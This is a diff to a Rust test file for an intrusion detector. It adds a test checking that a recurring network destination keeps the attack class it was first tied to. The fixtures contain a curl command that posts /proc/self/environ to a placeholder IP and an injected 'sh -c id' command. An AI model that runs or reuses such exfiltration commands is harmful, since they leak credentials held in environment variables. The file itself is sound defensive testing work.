@@ -490,6 +490,41 @@ fn a_beacon_planted_in_a_new_environment_is_reported_at_each_thaw_as_persistence
 }
 
 #[test]
+fn a_destination_an_attack_tainted_names_that_attacks_class_when_it_returns() {
+    let mut d = warmed();
+    // A credential theft: the environment read and sent to a new destination.
+    let mut theft = with(
+        record(31),
+        process(
+            40,
+            "/usr/bin/curl",
+            "curl --data-binary @/proc/self/environ http://10.9.9.5/",
+        ),
+    );
+    theft.evidence.push(endpoint("10.9.9.5:80"));
+    let first = d.record(&theft, 0).expect("credential theft");
+    assert_eq!(first.class, Class::CredentialTheft);
+    // Later only the destination shows (the read was not seen): the same attack again.
+    let again = d
+        .record(&with(record(32), endpoint("10.9.9.5:80")), 0)
+        .expect("a returning destination");
+    assert!(again.indicators.contains(&Indicator::ReturningDestination));
+    assert_eq!(again.class, Class::CredentialTheft);
+    // Whatever the attack was: an injected command that talked out comes back as one.
+    let mut d = warmed();
+    let mut shell = with(record(31), process(41, "/bin/sh", "sh -c id"));
+    shell.evidence.push(endpoint("10.9.9.6:80"));
+    assert_eq!(
+        d.record(&shell, 0).map(|f| f.class),
+        Some(Class::CommandInjection)
+    );
+    let back = d
+        .record(&with(record(32), endpoint("10.9.9.6:80")), 0)
+        .expect("a returning destination");
+    assert_eq!(back.class, Class::CommandInjection);
+}
+
+#[test]
 fn a_payload_from_tmp_left_running_is_persistence_and_one_that_ends_a_dropper() {
     let mut d = warmed();
     let ran = process(50, "/tmp/.b", "/tmp/.b");
